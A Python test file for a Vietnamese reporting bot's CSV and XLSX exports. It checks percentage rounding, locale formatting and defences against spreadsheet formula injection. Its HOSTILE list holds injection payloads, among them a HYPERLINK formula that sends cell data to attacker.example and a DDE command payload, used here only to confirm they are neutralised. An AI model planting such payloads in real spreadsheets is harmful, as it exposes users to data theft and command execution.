"""The report's files as people open them: CSV for a Vietnamese-locale Excel (";", BOM, decimal comma), one XLSX
workbook with typed numbers, percentages and dates, and no cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from bot.reports.exports import Pct, Table, csv_cell, neutralise, write_csv, write_xlsx
from bot.store import open_store
from bot.store.models import ContentItem, Delivery, DeliveryState
from bot.vn import TZ, lam_tron_phan_tram, phan_tram, phan_tram_so
from tests.test_reports import db_path, played_workspace, run

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A1;"bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


# --- one percentage rule -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (108.85, "108,9"),  # half up (round() would give 108,8 from the binary float)
        (108.88, "108,9"),  # rounded, not truncated (status used to say 108,8)
        (108.84, "108,8"),
        (45.45, "45,5"),
        (130.0, "130"),
        (100.0, "100"),
        (99.96, "99,9"),  # never "100" before the target is reached
        (0.04, "0"),
        (None, ""),
        (float("nan"), ""),
    ],
)
def test_one_rounding_rule_for_percentages(value: float | None, text: str) -> None:
    assert phan_tram_so(value) == text
    assert phan_tram(value) == (f"{text}%" if text else "")


def test_every_page_and_message_uses_the_one_rule() -> None:
    from bot import milestones
    from bot.reports import phan_tram as report_phan_tram

    assert report_phan_tram is phan_tram
    assert milestones.percent_text(108.88) == "108,9" and milestones.percent_floor(108.88) == 108.9
    assert milestones.percent_text(99.96) == "99,9"
    assert lam_tron_phan_tram(108.85) == 108.9


# --- cells -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Sáng kiến = năng suất", "1.250 sáng kiến", "'đã có dấu", "", "Tỉnh – huyện"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_csv_cells_the_vietnamese_way() -> None:
    when = datetime(2026, 11, 24, 1, 5, tzinfo=UTC)  # 08:05 in Hà Nội / TP.HCM
    assert csv_cell(when, TZ) == "08:05 24/11/2026"
    assert csv_cell(date(2026, 11, 24)) == "24/11/2026"
    assert csv_cell(1250) == "1250" and csv_cell(12.5) == "12,5" and csv_cell(3.0) == "3"
    assert csv_cell(-4) == "-4"  # a number is a typed value, not text: never prefixed
    assert csv_cell(Pct(108.88)) == "108,9%" and csv_cell(Pct(None)) == ""
    assert csv_cell(None) == ""


def test_csv_file_opens_in_columns(tmp_path: Path) -> None:
    path = tmp_path / "bang.csv"
    write_csv(path, ["Đơn vị", "Số sáng kiến", "% chỉ tiêu", "Lý do"],
              [["LĐLĐ huyện Ninh Hải; xã Tri Hải", 1250, Pct(41.666), HOSTILE[0]], ["Thuận Nam", 12.5, Pct(None), ""]])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert rows[0] == ["Đơn vị", "Số sáng kiến", "% chỉ tiêu", "Lý do"]
    assert rows[1] == ["LĐLĐ huyện Ninh Hải; xã Tri Hải", "1250", "41,7%", "'" + HOSTILE[0]]  # ";" inside is quoted
    assert rows[2] == ["Thuận Nam", "12,5", "", ""]


def test_xlsx_types_formats_and_no_formulas(tmp_path: Path) -> None:
    path = tmp_path / "bao-cao.xlsx"
    when = datetime(2026, 11, 24, 1, 5, tzinfo=UTC)
    tables = [
        Table("a.csv", "Theo đơn vị: [tỉnh]/huyện * quá dài để làm tên trang tính", "",
              ["Đơn vị", "Số sáng kiến", "% chỉ tiêu", "Cập nhật", "Lý do"],
              [["Tỉnh", 1250, Pct(108.88), when, text] for text in HOSTILE]),
        Table("b.csv", "Trống", "", ["Đơn vị"], []),
    ]
    write_xlsx(path, tables, TZ, title="Báo cáo thử")
    book = load_workbook(path)
    first = book.worksheets[0]
    assert len(first.title) <= 31 and not set("[]:*?/\\") & set(first.title)
    assert [c.value for c in first[1]] == ["Đơn vị", "Số sáng kiến", "% chỉ tiêu", "Cập nhật", "Lý do"]
    assert first["A1"].font.bold and first.freeze_panes == "A2"
    row = first[2]
    assert row[1].value == 1250 and row[1].number_format == "#,##0"
    assert row[2].value == pytest.approx(1.089) and row[2].number_format == "0.0%"
    assert row[3].value == datetime(2026, 11, 24, 8, 5) and row[3].number_format == "dd/mm/yyyy hh:mm"
    for r, text in enumerate(HOSTILE, start=2):
        cell = first.cell(row=r, column=5)
        expected = "'" + text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert cell.value == expected and cell.data_type == "s", (text, cell.value, cell.data_type)
    assert book.worksheets[1].max_row == 1


# --- the report --------------------------------------------------------------------------------------------------


def test_report_writes_the_workbook_and_neutralised_csvs(sample: Path, tmp_path: Path) -> None:
    played_workspace(sample, days=2)
    store = open_store(f"sqlite:///{db_path(sample)}")
    try:
        with store.session() as s:
            failed = s.exec(select(Delivery).where(Delivery.state == DeliveryState.FAILED)).first()
            assert failed is not None
            failed.reason = HOSTILE[0]
            s.add(failed)
            item = s.get(ContentItem, failed.content_id)
            assert item is not None
            item.title = HOSTILE[1]  # a title as it might come through a submission form
            s.add(item)
    finally:
        store.close()
    out = tmp_path / "bao-cao"
    run(sample, "report", "--from", "2026-11-01", "--to", "2026-11-30", "--out", str(out))

    html = (out / "index.html").read_text(encoding="utf-8")
    assert 'href="bao-cao.xlsx"' in html
    book = load_workbook(out / "bao-cao.xlsx")
    csv_files = sorted(p.name for p in out.glob("*.csv"))
    assert len(book.worksheets) == len(csv_files) == 8
    assert "Theo đơn vị" in book.sheetnames and "Lỗi và tạm giữ" in book.sheetnames

    formula_cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@"))):
                    formula_cells.append((sheet.title, cell.coordinate, cell.value))
    assert formula_cells == []
    issues = book["Lỗi và tạm giữ"]
    header = [c.value for c in issues[1]]
    reasons = [r[header.index("Lý do")] for r in issues.iter_rows(min_row=2, values_only=True)]
    titles = [r[header.index("Bài")] for r in issues.iter_rows(min_row=2, values_only=True)]
    assert "'" + HOSTILE[0] in reasons and "'" + HOSTILE[1] in titles

    units = book["Theo đơn vị"]
    header = [c.value for c in units[1]]
    rows = list(units.iter_rows(min_row=2))
    sent = [r[header.index("Đã đăng")] for r in rows]
    assert all(isinstance(c.value, int) for c in sent)
    pct = [r[header.index("% chỉ tiêu")] for r in rows if r[header.index("% chỉ tiêu")].value is not None]
    assert pct and all(c.number_format == "0.0%" and isinstance(c.value, float) for c in pct)
    latest = [r[header.index("Bài gần nhất")] for r in rows if r[header.index("Bài gần nhất")].value]
    assert latest and all(isinstance(c.value, datetime) and c.number_format == "dd/mm/yyyy hh:mm" for c in latest)

    for name in csv_files:
        text = (out / name).read_text(encoding="utf-8-sig")
        for row in csv.reader(text.splitlines(), delimiter=";"):
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), (name, row)
    lines = (out / "loi-va-tam-giu.csv").read_text(encoding="utf-8-sig")
    assert "'" + HOSTILE[0].replace('"', '""') in lines
